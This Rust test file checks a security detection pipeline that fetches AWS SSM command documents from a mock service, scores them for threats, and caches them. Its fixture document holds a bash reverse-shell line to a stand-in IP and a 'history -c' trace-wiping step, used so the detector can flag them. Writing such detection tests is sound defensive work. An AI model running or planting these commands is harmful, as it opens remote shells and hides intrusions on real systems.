//! GetDocument enrichment against moto: a custom document's own steps are scored, fetched once
//! per name while cached, and a document that is gone is reported, never fatal.

mod common;

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use cadet_aws_lambda::enrich::{CommandSource, DocumentSource, SsmCommands, SsmEnricher};
use cadet_core::{Policy, SignalId};
use cadet_pipeline::{Enricher, Outcome, Pipeline, Raw};
use cadet_sinks::BoxFuture;
use cadet_state::MemoryStore;
use common::{sample, sdk, Moto};
use serde_json::json;

/// Counts GetDocument calls through to the real client.
#[derive(Debug)]
struct Counting {
    inner: SsmCommands,
    calls: AtomicUsize,
}

impl DocumentSource for Counting {
    fn document_content<'a>(
        &'a self,
        name: &'a str,
        version: Option<&'a str>,
    ) -> BoxFuture<'a, Result<String, String>> {
        self.calls.fetch_add(1, Ordering::SeqCst);
        self.inner.document_content(name, version)
    }
}

const CONTENT: &str = r#"{"schemaVersion":"2.2","description":"encrypt and leave a note","mainSteps":[{"action":"aws:runShellScript","name":"run","inputs":{"runCommand":["bash -i >& /dev/tcp/203.0.113.9/4444 0>&1","history -c"]}}]}"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_custom_documents_steps_are_fetched_scored_and_cached() {
    let moto = Moto::start();
    let cfg = sdk(&moto.url).await;
    let ssm = aws_sdk_ssm::Client::new(&cfg);
    ssm.create_document()
        .name("SystemMaintenanceCheck")
        .document_type(aws_sdk_ssm::types::DocumentType::Command)
        .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
        .content(CONTENT)
        .send()
        .await
        .unwrap_or_else(|e| panic!("{e:?}"));
    let client = SsmCommands::new(ssm.clone(), Duration::from_secs(5));
    let docs = Arc::new(Counting {
        inner: client.clone(),
        calls: AtomicUsize::new(0),
    });
    let commands: Arc<dyn CommandSource> = Arc::new(client);
    let enricher = Arc::new(SsmEnricher::new(
        commands,
        docs.clone(),
        Policy::default().aws_owned_prefixes,
    ));
    let pipeline = Pipeline::new(MemoryStore::new(), Policy::default(), vec![])
        .with_enrichers(vec![enricher.clone() as Arc<dyn Enricher>]);

    let mut event = sample("aws/sendcommand-root.json");
    event["detail"]["requestParameters"]["documentName"] = json!("SystemMaintenanceCheck");
    event["detail"]["responseElements"]["command"]["commandId"] =
        json!("00000000-0000-0000-0000-000000000000");
    let text = event.to_string();
    let o = pipeline.process_one(Raw::Text(&text)).await;
    let f = o.finding().unwrap_or_else(|| panic!("{o:?}"));
    let ids: Vec<&str> = f.signals.iter().map(|s| s.id).collect();
    assert!(ids.contains(&SignalId::ReverseShell.as_str()), "{ids:?}");
    assert!(ids.contains(&SignalId::DefenseEvasion.as_str()), "{ids:?}");
    assert!(
        f.command_text
            .as_deref()
            .is_some_and(|t| t.contains("/dev/tcp/203.0.113.9")),
        "{:?}",
        f.command_text
    );
    // The unknown command id is reported; the document part still counted.
    assert!(
        ids.contains(&SignalId::EnrichmentUnavailable.as_str()),
        "{ids:?}"
    );

    // A second use of the same document: served from the cache.
    let mut again = event.clone();
    again["detail"]["eventID"] = json!("second-use");
    let text = again.to_string();
    let o = pipeline.process_one(Raw::Text(&text)).await;
    assert!(
        matches!(o, Outcome::Alerted { .. } | Outcome::BelowThreshold { .. }),
        "{o:?}"
    );
    assert_eq!(docs.calls.load(Ordering::SeqCst), 1, "fetched once");

    // AWS-owned documents are not fetched at all.
    let aws = sample("aws/sendcommand-patch-baseline-benign.json");
    let mut e = cadet_core::normalize(&aws.to_string())
        .ok()
        .flatten()
        .unwrap_or_else(|| panic!("sample"));
    e.command_id = None;
    assert!(!enricher.applies(&e) || e.operation == "ssm:SendCommand");
    enricher.enrich(&mut e).await;
    assert_eq!(docs.calls.load(Ordering::SeqCst), 1);

    // A document deleted right after use: scored without it, and the reason says so.
    let mut gone = event.clone();
    gone["detail"]["eventID"] = json!("gone");
    gone["detail"]["requestParameters"]["documentName"] = json!("DeletedRightAway");
    let text = gone.to_string();
    let o = pipeline.process_one(Raw::Text(&text)).await;
    let f = o.finding().unwrap_or_else(|| panic!("{o:?}"));
    let why = f
        .signals
        .iter()
        .find(|s| s.id == SignalId::EnrichmentUnavailable.as_str())
        .map(|s| s.reason.clone())
        .unwrap_or_default();
    assert!(why.contains("DeletedRightAway"), "{why}");
}

/// A numbered document version fetched by one instance is served to the next instance from
/// the DynamoDB baseline table (moto), not fetched again; the default version is not shared.
#[tokio::test(flavor = "multi_thread")]
async fn numbered_versions_are_shared_through_the_baseline_table() {
    use cadet_aws_lambda::enrich::DynamoTextCache;
    use cadet_state::dynamodb::DynamoStore;

    let moto = Moto::start();
    let cfg = sdk(&moto.url).await;
    let ssm = aws_sdk_ssm::Client::new(&cfg);
    let ddb = aws_sdk_dynamodb::Client::new(&cfg);
    common::create_baseline_table(&ddb, "cadet-baseline").await;
    ssm.create_document()
        .name("PatchHelper")
        .document_type(aws_sdk_ssm::types::DocumentType::Command)
        .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
        .content(CONTENT)
        .send()
        .await
        .unwrap_or_else(|e| panic!("{e:?}"));
    // Version 2 is benign; the call below runs version 1.
    ssm.update_document()
        .name("PatchHelper")
        .document_version("$LATEST")
        .content(r#"{"schemaVersion":"2.2","description":"ok","mainSteps":[{"action":"aws:runShellScript","name":"run","inputs":{"runCommand":["uptime"]}}]}"#)
        .send()
        .await
        .unwrap_or_else(|e| panic!("{e:?}"));

    let mut event = sample("aws/sendcommand-root.json");
    event["detail"]["requestParameters"]["documentName"] = json!("PatchHelper");
    event["detail"]["requestParameters"]["documentVersion"] = json!("1");
    let client = SsmCommands::new(ssm.clone(), Duration::from_secs(5));
    let store = DynamoStore::new(ddb.clone(), "cadet-baseline");
    let mut calls = Vec::new();
    for instance in 0..2 {
        let docs = Arc::new(Counting {
            inner: client.clone(),
            calls: AtomicUsize::new(0),
        });
        let enricher = SsmEnricher::new(
            Arc::new(client.clone()),
            docs.clone(),
            Policy::default().aws_owned_prefixes,
        )
        .with_shared_cache(Arc::new(DynamoTextCache(store.clone())));
        let pipeline = Pipeline::new(MemoryStore::new(), Policy::default(), vec![])
            .with_enrichers(vec![Arc::new(enricher) as Arc<dyn Enricher>]);
        event["detail"]["eventID"] = json!(format!("instance-{instance}"));
        let o = pipeline.process_one(Raw::Text(&event.to_string())).await;
        let f = o.finding().unwrap_or_else(|| panic!("{o:?}"));
        assert!(
            f.command_text
                .as_deref()
                .is_some_and(|t| t.contains("/dev/tcp/203.0.113.9") && !t.contains("uptime")),
            "version 1 is the one scored: {:?}",
            f.command_text
        );
        calls.push(docs.calls.load(Ordering::SeqCst));
    }
    assert_eq!(calls, vec![1, 0], "the second instance reads the table");
    let shared = store
        .get_text("ssm-document|111122223333|PatchHelper@1")
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(shared.is_some_and(|t| t.contains("/dev/tcp")));
    assert_eq!(
        store
            .get_text("ssm-document|111122223333|PatchHelper@$DEFAULT")
            .await
            .unwrap_or_else(|e| panic!("{e}")),
        None,
        "a moving default version is never shared"
    );
}
